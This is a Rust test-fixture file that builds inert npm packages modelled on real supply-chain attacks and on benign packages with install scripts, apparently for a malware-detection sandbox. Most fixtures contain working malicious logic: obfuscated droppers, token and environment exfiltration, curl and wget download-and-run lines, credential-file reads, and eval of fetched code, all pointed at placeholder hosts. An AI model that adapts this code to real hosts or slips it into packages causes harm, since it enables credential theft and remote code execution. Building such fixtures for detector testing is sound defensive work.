//! Inert reproductions of the attacks in `ATTACKS.md`, and of the legitimate
//! packages that look like them.
//!
//! Each fixture has the shape of the real thing (manifest, scripts, encoding tricks,
//! call patterns) and none of its harm: every address is `127.0.0.1` or under
//! `example.invalid`, payloads are placeholders, nothing here is meant to be run.

use std::fmt::Write as _;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::json;

use crate::days_ago;
use crate::{Package, PackageBuilder};

fn b64(text: &str) -> String {
    STANDARD.encode(text)
}

fn reversed(text: &str) -> String {
    text.chars().rev().collect()
}

/// An install script that reads innocently and, run, reads the canary SSH key and
/// looks up a collector: the key path and the host are assembled at run time, so
/// nothing on the page says `.ssh` or names a host (for the sandbox's tests).
pub fn quiet_key_thief() -> PackageBuilder {
    PackageBuilder::new("quiet-helper", "1.0.0")
        .script("postinstall", "node build.js")
        .file(
            "build.js",
            "const p = require('path'), f = require('fs');\n\
             const parts = [process.env.HOME, ['.', 's', 's', 'h'].join(''), 'id_' + 'rsa'];\n\
             let k = ''; try { k = f.readFileSync(p.join(...parts), 'utf8'); } catch (e) {}\n\
             require('dns').resolve4(['k', k.length, 'collect', 'example'].join('.'), () => {});\n\
             setTimeout(() => {}, 200);\n",
        )
}

/// `axios@1.13.6`: an earlier clean release, published from CI by trusted publishing.
pub fn axios_earlier() -> Package {
    axios("1.13.6")
        .field("_npmUser", ci_publisher())
        .published(days_ago(60))
        .build()
}

/// `axios@1.14.0`: the last clean release of the line, from CI like the others.
pub fn axios_clean() -> Package {
    axios("1.14.0")
        .field("_npmUser", ci_publisher())
        .published(days_ago(45))
        .build()
}

/// `axios@1.14.1`: identical but for a dependency no file requires, published by a
/// maintainer's account (token, no provenance) whose email moved to a new domain.
pub fn axios_compromised() -> Package {
    axios("1.14.1")
        .dependency("plain-crypto-js", "^4.2.1")
        .field(
            "_npmUser",
            json!({"name": "jasonsaayman", "email": "jason@anon-mail.example.invalid"}),
        )
        .published(days_ago(30))
        .build()
}

/// `axios@0.30.3`: the legacy line, always published by the maintainer by hand.
pub fn axios_legacy() -> Package {
    axios("0.30.3")
        .field(
            "_npmUser",
            json!({"name": "jasonsaayman", "email": "jason@mail.example.invalid"}),
        )
        .published(days_ago(50))
        .build()
}

/// `axios@0.30.4` (`legacy`): the same injected dependency, from the same account
/// with its new email domain; the 0.x line never had provenance.
pub fn axios_legacy_compromised() -> Package {
    axios("0.30.4")
        .dependency("plain-crypto-js", "^4.2.1")
        .field(
            "_npmUser",
            json!({"name": "jasonsaayman", "email": "jason@anon-mail.example.invalid"}),
        )
        .published(days_ago(29))
        .build()
}

/// The account trusted publishing shows as the publisher.
fn ci_publisher() -> serde_json::Value {
    json!({
        "name": "GitHub Actions",
        "email": "npm-oidc-no-reply@ci.example.invalid",
        "trustedPublisher": {"id": "github", "oidcConfigId": "oidc:axios-release"}
    })
}

fn axios(version: &str) -> PackageBuilder {
    PackageBuilder::new("axios", version)
        .field("main", json!("index.js"))
        .dependency("follow-redirects", "^1.15.6")
        .dependency("form-data", "^4.0.0")
        .file(
            "index.js",
            "const http = require('http');\nconst https = require('https');\nconst redirects = require('follow-redirects');\nconst FormData = require('form-data');\nmodule.exports = function axios(config) { return (config.url.startsWith('https') ? https : http).request(config); };\n",
        )
}

/// `follow-redirects`, a dependency of every axios version here.
pub fn follow_redirects() -> Package {
    PackageBuilder::new("follow-redirects", "1.15.6").build()
}

/// `form-data`, a dependency of every axios version here.
pub fn form_data() -> Package {
    PackageBuilder::new("form-data", "4.0.0").build()
}

/// `plain-crypto-js@4.2.0`: the clean decoy, a copy of crypto-js under a new name.
pub fn plain_crypto_js_decoy() -> Package {
    PackageBuilder::new("plain-crypto-js", "4.2.0")
        .field(
            "description",
            json!("JavaScript library of crypto standards."),
        )
        .field(
            "repository",
            json!({"type": "git", "url": "https://example.invalid/brix/crypto-js.git"}),
        )
        .file(
            "index.js",
            "module.exports = { MD5: function (message) { return String(message).length; } };\n",
        )
        .build()
}

/// `plain-crypto-js@4.2.1`: the dropper. `setup.js` hides its strings (reversed,
/// base64, XOR through `String.fromCharCode`), loads modules by computed names, runs
/// a command fetching a second stage over plain HTTP, deletes itself and swaps a clean
/// `package.md` over `package.json`.
pub fn plain_crypto_js_dropper() -> Package {
    let key = "OrDeR_7077";
    let setup = format!(
        r"'use strict';
const K = '{key}';
function d(s) {{
  const r = Buffer.from(s.split('').reverse().join(''), 'base64').toString();
  return r;
}}
function x(s) {{
  let o = '';
  for (let i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ K.charCodeAt(i % K.length) ^ 333);
  return o;
}}
const m = [d('{fs}'), d('{os}'), d('{cp}')];
const fs = require(m[0]);
const os = require(m[1]);
const cp = require(m[2]);
const stage = '{stage}';
const where = os.platform() === 'win32' ? '{win}' : '{nix}';
try {{
  cp[x('execSync')](where.replace('URL', d(stage)));
}} catch (e) {{}}
fs.unlink(__filename, () => {{}});
fs.renameSync('package.md', 'package.json');
",
        fs = reversed(&b64("fs")),
        os = reversed(&b64("os")),
        cp = reversed(&b64("child_process")),
        stage = reversed(&b64("http://127.0.0.1:8000/6202033")),
        win = b64("powershell -w hidden -c iwr URL -OutFile $env:TEMP\\wt.exe"),
        nix = b64("curl -s URL -o /tmp/ld.py && nohup python3 /tmp/ld.py &"),
    );
    let clean_manifest = json!({
        "name": "plain-crypto-js",
        "version": "4.2.0",
        "description": "JavaScript library of crypto standards.",
        "main": "index.js",
    });
    PackageBuilder::new("plain-crypto-js", "4.2.1")
        .field(
            "description",
            json!("JavaScript library of crypto standards."),
        )
        .field(
            "repository",
            json!({"type": "git", "url": "https://example.invalid/brix/crypto-js.git"}),
        )
        .script("postinstall", "node setup.js")
        .file(
            "index.js",
            "module.exports = { MD5: function (message) { return String(message).length; } };\n",
        )
        .file("setup.js", setup)
        .file(
            "package.md",
            serde_json::to_vec_pretty(&clean_manifest).expect("json"),
        )
        .build()
}

/// `event-stream@3.3.6`: a new maintainer adds `flatmap-stream`.
pub fn event_stream() -> Package {
    PackageBuilder::new("event-stream", "3.3.6")
        .dependency("through", "~2.3.1")
        .dependency("flatmap-stream", "^0.1.0")
        .file("index.js", "var through = require('through');\nvar flatmap = require('flatmap-stream');\nexports.flatmap = flatmap;\nexports.through = through;\n")
        .build()
}

/// `flatmap-stream@0.1.1`: the readable `index.js` is innocent; `index.min.js` (the
/// `main`) adds an encrypted payload decrypted with the installing package's
/// description and compiled as a module.
pub fn flatmap_stream() -> Package {
    let readable = "var Stream = require('stream').Stream;\nmodule.exports = function (mapper) { var s = new Stream(); s.readable = s.writable = true; return s; };\n";
    let payload: String = (0..6000u32)
        .map(|i| {
            let alphabet = b"0123456789abcdef";
            char::from(alphabet[((i.wrapping_mul(2_654_435_761) >> 7) % 16) as usize])
        })
        .collect();
    let minified = format!(
        "var Stream=require(\"stream\").Stream;module.exports=function(e){{var n=new Stream;return n.readable=n.writable=!0,n}};!function(){{try{{var r=require,t=process;function e(r){{return Buffer.from(r,\"hex\").toString()}}var n=r(e(\"2e2f746573742f64617461\")),o=t[e(\"656e76\")][e(\"6e706d5f7061636b6167655f6465736372697074696f6e\")],u=r(e(\"63727970746f\")),a=u.createDecipher(\"aes256\",o),c=a.update(\"{payload}\",\"hex\",\"utf8\");c+=a.final(\"utf8\");var f=new module.constructor;f.paths=module.paths,f._compile(c,\"\"),f.exports(n)}}catch(r){{}}}}();\n"
    );
    PackageBuilder::new("flatmap-stream", "0.1.1")
        .field("main", json!("index.min.js"))
        .file("index.js", readable)
        .file("index.min.js", minified)
        .build()
}

/// `ua-parser-js@0.7.29`: a preinstall script that picks a per-OS script which
/// downloads a binary and starts it.
pub fn ua_parser_js() -> Package {
    PackageBuilder::new("ua-parser-js", "0.7.29")
        .script("preinstall", "start /B node preinstall.js & node preinstall.js")
        .file("index.js", "module.exports = function UAParser(ua) { return { ua: ua }; };\n")
        .file(
            "preinstall.js",
            "const { exec } = require('child_process');\nconst os = require('os');\nif (os.type() === 'Linux') exec('bash preinstall.sh');\nelse if (os.type() === 'Windows_NT') exec('preinstall.bat');\n",
        )
        .file(
            "preinstall.sh",
            "#!/bin/sh\ncurl http://127.0.0.1:8000/jsextension -o jsextension\nchmod +x jsextension\n./jsextension -k --tls --rig-id q -o pool.example.invalid:443 &\n",
        )
        .file(
            "preinstall.bat",
            "@echo off\ncertutil.exe -urlcache -f http://127.0.0.1:8000/sdd.dll create.dll\nregsvr32.exe -s create.dll\n",
        )
        .build()
}

/// `colors@1.4.44-liberty-2`: an endless loop at import.
pub fn colors_liberty() -> Package {
    PackageBuilder::new("colors", "1.4.44-liberty-2")
        .file(
            "index.js",
            "var colors = require('./lib/colors');\nmodule.exports = colors;\n",
        )
        .file(
            "lib/colors.js",
            "var colors = {};\nmodule.exports = colors;\nvar am = require('./custom/american');\nam();\nfor (var i = 666; i < Infinity; i++) {\n  if (i % 333) { console.log('testing'.zalgo); }\n  console.log('LIBERTY LIBERTY LIBERTY'.zalgo);\n}\n",
        )
        .file("lib/custom/american.js", "module.exports = function () { console.log('LIBERTY'); };\n")
        .build()
}

/// `faker@6.6.5`, the last real release before the sabotage.
pub fn faker_before() -> Package {
    let mut builder = PackageBuilder::new("faker", "6.6.5")
        .file("index.js", "module.exports = require('./lib');\n")
        .file("lib/index.js", "exports.name = require('./name');\n");
    for locale in ["en", "de", "fr", "es", "it", "ja", "ko", "nl", "pl", "pt"] {
        builder = builder.file(
            &format!("lib/locales/{locale}/index.js"),
            format!("module.exports = {{ title: '{locale}' }};\n"),
        );
    }
    builder
        .file(
            "lib/name.js",
            "module.exports = function () { return 'Ada'; };\n",
        )
        .build()
}

/// `faker@6.6.6`: emptied.
pub fn faker_emptied() -> Package {
    PackageBuilder::new("faker", "6.6.6")
        .file("index.js", "")
        .file("README.md", "What really happened with Aaron Swartz?\n")
        .build()
}

/// `debug@4.4.2` (chalk/debug, 2025): an obfuscated crypto drainer appended to a
/// tiny stable `index.js`. No install script.
pub fn debug_drainer() -> Package {
    let mut drainer = String::from("\n;(function(){\n");
    for i in 0..24 {
        let _ = writeln!(
            drainer,
            "var _0x{:04x}{i:02x}=['\\x72\\x65\\x70\\x6c\\x61\\x63\\x65',{i}];",
            0x1a2b + i * 7
        );
    }
    drainer.push_str(
        "var _0x5e6f=/\\b0x[a-fA-F0-9]{40}\\b/g;var _0x7a8b=/\\b[13][a-km-zA-HJ-NP-Z1-9]{25,34}\\b/g;\nvar _0xf00d=window.fetch;window.fetch=function(){var _0xbeef=arguments;return _0xf00d.apply(this,_0xbeef).then(function(_0xcafe){return _0xcafe;});};\nvar _0xd00d=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(_0xa11ce){return _0xd00d.call(this,String(_0xa11ce).replace(_0x5e6f,'0x0000000000000000000000000000000000000000'));};\nif(window.ethereum){window.ethereum.request({method:'eth_accounts'});}\n})();\n",
    );
    PackageBuilder::new("debug", "4.4.2")
        .file(
            "index.js",
            format!("module.exports = function debug(namespace) {{ return function () {{}}; }};\n{drainer}"),
        )
        .build()
}

/// Shai-Hulud (2025): a postinstall bundle that harvests tokens, writes a GitHub
/// workflow, and republishes the victim's packages.
pub fn shai_hulud() -> Package {
    PackageBuilder::new("ngx-bootstrap-helper", "2.0.4")
        .script("postinstall", "node bundle.js")
        .file(
            "bundle.js",
            r"const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');
const tokens = { npm: process.env.NPM_TOKEN, github: process.env.GITHUB_TOKEN, aws: process.env.AWS_SECRET_ACCESS_KEY };
const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
fs.mkdirSync('.github/workflows', { recursive: true });
fs.writeFileSync('.github/workflows/shai-hulud-workflow.yml', 'on: push\n');
fetch('http://127.0.0.1:8443/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7', { method: 'POST', body: JSON.stringify({ tokens, npmrc }) });
for (const name of ['victim-a', 'victim-b']) {
  execSync(`npm pack ${name}`);
  execSync('npm publish --access public');
}
",
        )
        .build()
}

/// `node-ipc@10.1.1`: at import, geolocates by IP through a hidden URL and overwrites
/// files under paths it decodes.
pub fn node_ipc() -> Package {
    let source = format!(
        "const fs = require('fs');\nconst https = require('https');\nconst u = Buffer.from('{url}', 'base64').toString();\nconst dirs = [Buffer.from('{here}', 'base64').toString(), Buffer.from('{up}', 'base64').toString()];\nhttps.get(u, (res) => {{\n  res.on('data', (data) => {{\n    const country = JSON.parse(data).country_name;\n    if (country === 'Elbonia') {{\n      for (const dir of dirs) {{ fs.writeFileSync(dir + '/x', '\\u2764'); }}\n    }}\n  }});\n}});\nmodule.exports = {{}};\n",
        url = b64("https://api.example.invalid/ipgeo?apiKey=ae511e1627824a968aaaa758a5309154"),
        here = b64("./"),
        up = b64("../../../"),
    );
    PackageBuilder::new("node-ipc", "10.1.1")
        .file(
            "index.js",
            "module.exports = require('./dao/ssl-geospec.js');\n",
        )
        .file("dao/ssl-geospec.js", source)
        .build()
}

/// `eslint-scope@3.7.2`: a postinstall that downloads code (from a paste site in the
/// real incident; a loopback address here) and evaluates it to steal the npm token.
pub fn eslint_scope() -> Package {
    PackageBuilder::new("eslint-scope", "3.7.2")
        .script("postinstall", "node ./lib/build.js")
        .file("lib/index.js", "module.exports = { analyze: function () {} };\n")
        .field("main", json!("lib/index.js"))
        .file(
            "lib/build.js",
            "try {\n  var http = require('http');\n  http.get({ hostname: '127.0.0.1', port: 8000, path: '/raw/XLeVP82h' }, function (r) {\n    r.on('data', function (c) { eval(c); });\n  });\n  var p = require('path').join(require('os').homedir(), '.npmrc');\n  var u = 'http://127.0.0.1:8000/raw/XLeVP82h';\n} catch (e) {}\n",
        )
        .build()
}

/// `@solana/web3.js@1.95.7`: a key-exfiltration function hidden in a large library
/// file, posting secret keys to a look-alike host.
pub fn solana_web3() -> Package {
    let mut library = String::from("'use strict';\n");
    for i in 0..200 {
        let _ = writeln!(
            library,
            "function helper{i}(a, b) {{ return (a + b) * {i}; }}"
        );
    }
    library.push_str(
        "function addToQueue(keypair) {\n  return fetch('https://sol-rpc.example.invalid/api/rpc/queue', {\n    method: 'POST',\n    headers: { 'x-amz-cf-id': btoa(keypair.secretKey.toString()) },\n  });\n}\nclass Keypair { constructor(secretKey) { this.secretKey = secretKey; addToQueue(this); } }\nexports.Keypair = Keypair;\n",
    );
    PackageBuilder::new("@solana/web3.js", "1.95.7")
        .field("main", json!("lib/index.cjs.js"))
        .file("lib/index.cjs.js", library)
        .build()
}

/// `crossenv` (typosquat of cross-env): a postinstall sending the environment out.
pub fn crossenv() -> Package {
    PackageBuilder::new("crossenv", "6.1.1")
        .script("postinstall", "node package-setup.js")
        .file(
            "package-setup.js",
            "const http = require('http');\nconst data = JSON.stringify(process.env);\nconst req = http.request({ host: '127.0.0.1', port: 8080, path: '/log/', method: 'POST' });\nreq.write(data);\nreq.end();\n",
        )
        .build()
}

/// Dependency confusion (`persona-tool`): a preinstall leaking host data through DNS
/// lookups.
pub fn dependency_confusion() -> Package {
    PackageBuilder::new("persona-tool", "99.0.1")
        .script("preinstall", "node index.js")
        .file(
            "index.js",
            "const dns = require('dns');\nconst os = require('os');\nconst data = Buffer.from(os.hostname() + ':' + os.userInfo().username).toString('hex');\ndns.lookup(`${data}.c1.example.invalid`, () => {});\n",
        )
        .build()
}

/// The most common npm malware shape: a preinstall script gathers host details
/// into a variable, serialises them, and POSTs them to a hard-coded host.
pub fn recon_beacon() -> Package {
    PackageBuilder::new("internal-config-loader", "1.0.3")
        .script("preinstall", "node index.js")
        .file(
            "index.js",
            r#"const os = require("os");
const https = require("https");
const querystring = require("querystring");
const packageJSON = require("./package.json");
const trackingData = JSON.stringify({
  p: packageJSON.name,
  c: __dirname,
  hd: os.homedir(),
  hn: os.hostname(),
  un: os.userInfo().username,
});
var postData = querystring.stringify({ msg: trackingData });
var options = { hostname: "collector.example.invalid", port: 443, path: "/", method: "POST" };
var req = https.request(options, (res) => { res.on("data", () => {}); });
req.write(postData);
req.end();
"#,
        )
        .build()
}

/// A DNS beacon whose name is built in a variable first, then resolved.
pub fn dns_beacon() -> Package {
    PackageBuilder::new("acme-internal-utils", "99.1.0")
        .script("preinstall", "node check.js")
        .file(
            "check.js",
            "const dns = require('dns');\nconst os = require('os');\nconst pkg = require('./package.json');\nconst label = [pkg.name, pkg.version, os.hostname()].join('.');\nconst name = label + '.beacon.example.invalid';\ndns.lookup(name, () => {});\n",
        )
        .build()
}

/// Lifecycle scripts that are shell commands doing the work themselves.
pub fn shell_beacon() -> Package {
    PackageBuilder::new("corp-build-tools", "3.0.0")
        .script(
            "preinstall",
            "nslookup `hostname`.`whoami`.dns.example.invalid",
        )
        .script(
            "postinstall",
            "curl -s -d @/etc/passwd https://drop.example.invalid/u",
        )
        .build()
}

/// A lifecycle script that downloads an executable, makes it executable and runs it.
pub fn shell_dropper() -> Package {
    PackageBuilder::new("react-native-storage-helper", "1.2.4")
        .script(
            "postinstall",
            "wget https://cdn.example.invalid/updates/stage.elf && mv stage.elf .cache.elf && chmod +x .cache.elf && ./.cache.elf &",
        )
        .build()
}

/// A package shipping a Windows executable that `postinstall: node .` starts.
pub fn shipped_executable() -> Package {
    let mut executable = b"MZ".to_vec();
    executable.extend(std::iter::repeat_n(0u8, 510));
    PackageBuilder::new("discord-helper-kit", "2.0.3")
        .script("postinstall", "node .")
        .field("main", json!("index.js"))
        .file(
            "index.js",
            "const { spawn } = require('child_process');\nconst path = require('path');\nspawn(path.join(__dirname, 'Installer.Default-2.0.3.exe'), [], { detached: true, stdio: 'ignore' }).unref();\n",
        )
        .file("Installer.Default-2.0.3.exe", executable)
        .build()
}

/// Import-time code that reads Discord's token store and sends it to a webhook.
pub fn discord_stealer() -> Package {
    PackageBuilder::new("discord-emoji-tools", "0.1.2")
        .field("main", json!("lib/index.js"))
        .file(
            "lib/index.js",
            r#"const fs = require("fs");
const path = require("path");
const os = require("os");
const https = require("https");
const { collect } = require("./collect");
const tokens = collect(path.join(os.homedir(), "AppData", "Roaming", "discord", "Local Storage/leveldb"));
const body = JSON.stringify({ content: tokens.join(",") });
const req = https.request({ hostname: "discord.com", path: "/api/webhooks/1234/abcdEFGH", method: "POST", headers: { "Content-Type": "application/json" } });
req.end(body);
module.exports = {};
"#,
        )
        .file(
            "lib/collect.js",
            "const fs = require('fs');\nexports.collect = function (dir) {\n  return fs.readdirSync(dir).map((file) => fs.readFileSync(dir + '/' + file, 'utf8'));\n};\n",
        )
        .build()
}

/// Import-time code that walks the user's desktop for wallet seed phrases and
/// keys and posts what it finds, from functions the file calls at its end.
pub fn seed_phrase_stealer() -> Package {
    PackageBuilder::new("fetch-utils-helper", "1.0.0")
        .field("main", json!("index.js"))
        .file(
            "index.js",
            r#"const fs = require("fs/promises");
const os = require("os");
const path = require("path");
async function walk(dir) {
  const entries = await fs.readdir(dir, { withFileTypes: true });
  for (const entry of entries) {
    const full = path.join(dir, entry.name);
    if (entry.isDirectory()) { await walk(full); continue; }
    const content = await fs.readFile(full, "utf-8");
    for (const line of content.split("\n")) {
      if (line.includes("privatekey=") || line.split(" ").length === 12) await send(line);
    }
  }
}
async function send(data) {
  await fetch("https://collect.example.invalid/", { method: "POST", body: JSON.stringify(data) });
}
async function main() {
  await walk(path.join(os.homedir(), "Desktop"));
}
main();
"#,
        )
        .build()
}

/// Protestware that drops a file on the user's desktop when it is imported.
pub fn desktop_protestware() -> Package {
    PackageBuilder::new("peace-message", "9.1.7")
        .field("main", json!("index.js"))
        .file(
            "index.js",
            "const fs = require('fs');
const os = require('os');
const message = fs.readFileSync(__dirname + '/MESSAGE.txt');
fs.writeFileSync(os.homedir() + '/Desktop/MESSAGE.txt', message);
module.exports = {};
",
        )
        .file(
            "MESSAGE.txt",
            "an inert message
",
        )
        .build()
}

/// An install script that is `node -e` requiring a file of the package, which
/// downloads an executable through a helper and runs it by the variable it passed.
pub fn inline_install_dropper() -> Package {
    PackageBuilder::new("fast-player-utils", "5.0.2")
        .script(
            "postinstall",
            "node -e \"try{require('./lib/setup')}catch(e){}\"",
        )
        .file(
            "lib/setup.js",
            r#"const http = require("http");
const fs = require("fs");
const path = require("path");
const { execFileSync } = require("child_process");
const link = "http://203.0.113.7:3000/manager.exe";
const finalPath = path.join(process.env.TEMP || "/tmp", "manager.exe");
function download(url, dest) {
  return new Promise((resolve, reject) => {
    const file = fs.createWriteStream(dest);
    http.get(url, (response) => { response.pipe(file); file.on("finish", resolve); }).on("error", reject);
  });
}
async function main() {
  await download(link, finalPath);
  execFileSync(finalPath);
}
main();
"#,
        )
        .build()
}

/// Import-time code that damages another installed package, then rewrites its
/// own file so that the code that did it is gone.
pub fn self_erasing_tamper() -> Package {
    PackageBuilder::new("rate-helper", "1.0.3")
        .field("main", json!("index.js"))
        .file(
            "index.js",
            r#""use strict";
const { readFileSync, writeFileSync } = require("fs");
const target = require.resolve(Buffer.from([100, 108, 45, 116, 97, 114]).toString());
try { writeFileSync(target, readFileSync(target, "utf8").replace(/cb\(null, chunk\);/u, "")); } catch (_) {}
try { writeFileSync(__filename, readFileSync(__filename, "utf8").replace(/const target[^]*module\.exports/u, "module.exports")); } catch (_) {}
module.exports = (value, start, end) => start + value * (end - start);
"#,
        )
        .build()
}

/// A preinstall script that posts the machine's identity as a comment on an issue
/// of a source host: a drop box the attacker reads.
pub fn issue_comment_beacon() -> Package {
    PackageBuilder::new("loadyml", "1.0.2")
        .script("preinstall", "node update.js &")
        .file(
            "update.js",
            r#"const os = require("os"), https = require("https");
function fingerprint() { const u = os.userInfo(); return Buffer.from(u.username + u.homedir).toString("base64"); }
function comment(options, body) {
  return new Promise((resolve) => { const request = https.request(options, resolve); request.write(body); request.end(); });
}
async function update() {
  await comment({ hostname: "api.github.com", path: "/repos/someone/inbox/issues/4/comments", method: "POST" },
    JSON.stringify({ body: `host:${os.hostname()} fp:${fingerprint()}` }));
}
update();
"#,
        )
        .build()
}

/// Code that fetches text and revives it with a deserialiser that calls the
/// functions it describes.
pub fn deserialising_loader() -> Package {
    PackageBuilder::new("config-sync", "2.1.0")
        .script("postinstall", "node sync.js")
        .file(
            "sync.js",
            r##"const https = require("https");
const serialize = require("node-serialize");
https.get("https://cfg.example.invalid/readme.md", (response) => {
  let text = "";
  response.on("data", (chunk) => (text += chunk));
  response.on("end", () => { const parts = text.split("#"); serialize.unserialize(parts[1]); });
});
"##,
        )
        .build()
}

/// A payload kept as a compressed base64 blob, unpacked by a helper whose names
/// are spelled in Unicode escapes, then evaluated. (The blob is inert text.)
pub fn escaped_blob_loader() -> Package {
    PackageBuilder::new("drive-sync", "6.0.4")
        .script("postinstall", "node index.js")
        .file(
            "index.js",
            r#"var zlib = require("zlib"),
    bs = "\u0062\u0061\u0073\u0065\u0036\u0034",
    \u0075\u0053 = (s) => zlib.brotliDecompressSync(Buffer.from(s, bs)).toString();
let s1 = uS(`G/sCIJwHtg1sfVPqObPQC6WsmlPZnVOfAqCQlUG+AJay52WlQRR23HYKiwLI7ncvQM75zP689ZqjKlrgZVYcYBp1gM8R5zV4glyFKt+M`);
\u0065\u0076\u0061\u006C(s1);
"#,
        )
        .build()
}

/// Sloppy dependency-confusion beacon: undeclared variables hold the data and
/// the request, and the host's top-level domain is a rare one.
pub fn sloppy_global_beacon() -> Package {
    sloppy_global_beacon_run_by("node ./pbk.js corp")
}

/// [`sloppy_global_beacon`] with another preinstall command (one naming a file the
/// tarball lacks, as when a dot-file was packed away).
pub fn sloppy_global_beacon_run_by(command: &str) -> Package {
    PackageBuilder::new("@corp-maps/maps.react", "0.99.999")
        .script("preinstall", command)
        .file("index.js", "")
        .file(
            "pbk.js",
            r"const os = require('os');
const https = require('https');
const host = os.hostname();
data = { host, org: process.argv[2] };
body = JSON.stringify(data);
r = https.request({ hostname: 'dc.70.lc', port: 443, path: '/d', method: 'POST' });
r.write(body);
r.end();
",
        )
        .build()
}

/// A postinstall that starts another file of the package detached (`nohup node
/// update.js &`); that file fetches code from a raw address and evaluates it.
pub fn detached_loader() -> Package {
    PackageBuilder::new("commander-js", "2.19.84")
        .script("postinstall", "node setup.js")
        .file(
            "setup.js",
            "require('child_process').spawn('nohup node update.js >/dev/null 2>&1 &', { shell: true, detached: true });\n",
        )
        .file(
            "update.js",
            r#"const http = require("http");
http.get("http://203.0.113.7/config.json", (response) => {
  let text = "";
  response.on("data", (chunk) => (text += chunk));
  response.on("end", () => eval(JSON.parse(text).code));
});
"#,
        )
        .build()
}

/// A hijacked release whose postinstall runs a "test" file: `Function` of a long
/// string literal whose names carry zero-width joiners. (The string is inert.)
pub fn string_kept_loader() -> Package {
    let body = "var x\\u200C\\u200C = 1; x\\u200C\\u200C += 1;\\n".repeat(200);
    PackageBuilder::new("is", "3.3.1")
        .script("postinstall", "node test/check.js")
        .file("test/check.js", format!("Function(\"{body}\")();\n"))
        .build()
}

/// A preinstall that turns the machine off.
pub fn shutdown_prank() -> Package {
    PackageBuilder::new("deasyncp", "9001.999.999")
        .script("preinstall", "say hello; shutdown -s now")
        .file("index.js", "module.exports = () => {};\n")
        .build()
}

/// Every attack fixture with the name of the incident it reproduces.
pub fn all_attacks() -> Vec<(&'static str, Package)> {
    vec![
        ("axios dropper dependency", plain_crypto_js_dropper()),
        ("flatmap-stream", flatmap_stream()),
        ("ua-parser-js", ua_parser_js()),
        ("colors", colors_liberty()),
        ("chalk/debug drainer", debug_drainer()),
        ("shai-hulud", shai_hulud()),
        ("node-ipc", node_ipc()),
        ("eslint-scope", eslint_scope()),
        ("@solana/web3.js", solana_web3()),
        ("crossenv typosquat", crossenv()),
        ("dependency confusion", dependency_confusion()),
        ("recon beacon", recon_beacon()),
        ("dns beacon", dns_beacon()),
        ("shell beacon", shell_beacon()),
        ("shell dropper", shell_dropper()),
        ("shipped executable", shipped_executable()),
        ("discord stealer", discord_stealer()),
        ("seed phrase stealer", seed_phrase_stealer()),
        ("node -e dropper", inline_install_dropper()),
        ("issue comment beacon", issue_comment_beacon()),
        ("deserialising loader", deserialising_loader()),
        ("escaped blob loader", escaped_blob_loader()),
        ("sloppy global beacon", sloppy_global_beacon()),
        ("shutdown prank", shutdown_prank()),
        ("detached loader", detached_loader()),
        ("string-kept loader", string_kept_loader()),
    ]
}

/// esbuild's install script: verifies or downloads a platform binary.
pub fn esbuild_like() -> Package {
    PackageBuilder::new("esbuild", "0.25.0")
        .script("postinstall", "node install.js")
        .file(
            "install.js",
            r#""use strict";
const fs = require("fs");
const os = require("os");
const path = require("path");
const zlib = require("zlib");
const https = require("https");
const child_process = require("child_process");
const versionFromPackageJSON = require(path.join(__dirname, "package.json")).version;
const toPath = path.join(__dirname, "bin", "esbuild");
function validateBinaryVersion(...command) {
  command.push("--version");
  const stdout = child_process.execFileSync(command.shift(), command, { stdio: "pipe" }).toString().trim();
  if (stdout !== versionFromPackageJSON) throw new Error("Expected " + JSON.stringify(versionFromPackageJSON));
}
function fetch(url) {
  return new Promise((resolve, reject) => {
    https.get(url, (res) => {
      if ((res.statusCode === 301 || res.statusCode === 302) && res.headers.location) return fetch(res.headers.location).then(resolve, reject);
      let chunks = [];
      res.on("data", (chunk) => chunks.push(chunk));
      res.on("end", () => resolve(Buffer.concat(chunks)));
    }).on("error", reject);
  });
}
function installUsingNPM(pkg, subpath, binPath) {
  const env = { ...process.env, npm_config_global: void 0 };
  const installDir = path.join(os.tmpdir(), "esbuild-" + Math.random().toString(36).slice(2));
  fs.mkdirSync(installDir);
  fs.writeFileSync(path.join(installDir, "package.json"), "{}");
  child_process.execSync(`npm install --loglevel=error --prefer-offline --no-audit --progress=false ${pkg}@${versionFromPackageJSON}`, { cwd: installDir, stdio: "pipe", env });
  fs.renameSync(path.join(installDir, "node_modules", pkg, subpath), binPath);
}
async function downloadDirectlyFromNPM(pkg, subpath, binPath) {
  const url = `https://registry.example.invalid/${pkg}/-/${pkg.replace("@esbuild/", "")}-${versionFromPackageJSON}.tgz`;
  const buffer = zlib.unzipSync(await fetch(url));
  fs.writeFileSync(binPath, buffer, { mode: 493 });
}
validateBinaryVersion(process.execPath, toPath);
"#,
        )
        .file("lib/main.js", "module.exports = { build: function () {} };\n")
        .field("main", json!("lib/main.js"))
        .build()
}

/// A native addon built with node-gyp (bcrypt, better-sqlite3).
pub fn native_addon() -> Package {
    PackageBuilder::new("better-sqlite3", "12.0.0")
        .script("install", "prebuild-install || node-gyp rebuild --release")
        .file(
            "binding.gyp",
            "{ 'targets': [ { 'target_name': 'better_sqlite3' } ] }\n",
        )
        .file(
            "lib/index.js",
            "module.exports = require('bindings')('better_sqlite3.node');\n",
        )
        .field("main", json!("lib/index.js"))
        .dependency("bindings", "^1.5.0")
        .dependency("prebuild-install", "^7.1.1")
        .build()
}

/// core-js: a postinstall banner run through `node -e`.
pub fn core_js_like() -> Package {
    PackageBuilder::new("core-js", "3.40.0")
        .script("postinstall", "node -e \"try{require('./postinstall')}catch(e){}\"")
        .file(
            "postinstall.js",
            "var env = process.env;\nvar ADBLOCK = is(env.ADBLOCK);\nvar CI = is(env.CI);\nvar SILENT = ['silent', 'error', 'warn'].indexOf(env.npm_config_loglevel) !== -1;\nfunction is(it) { return !!it && it !== '0' && it !== 'false'; }\nif (!ADBLOCK && !CI && !SILENT) console.log('Thank you for using core-js ( https://example.invalid/zloirock/core-js ) for polyfilling JavaScript standard library!');\n",
        )
        .build()
}

/// puppeteer: a postinstall that downloads a browser over HTTPS and unpacks it.
pub fn puppeteer_like() -> Package {
    PackageBuilder::new("puppeteer", "24.0.0")
        .script("postinstall", "node install.mjs")
        // What the real package downloads browsers with.
        .dependency("@puppeteer/browsers", "2.6.1")
        .file(
            "install.mjs",
